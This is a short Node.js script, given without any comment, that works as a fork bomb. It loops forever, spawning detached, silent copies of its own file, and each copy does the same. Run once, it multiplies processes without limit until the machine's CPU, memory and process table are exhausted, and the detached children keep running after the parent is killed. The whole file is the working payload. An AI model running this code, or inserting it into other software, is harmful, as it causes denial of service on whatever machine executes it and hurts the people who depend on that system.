const { spawn } = require('child_process');
for (;;) {
  try { spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }); } catch (e) {}
}
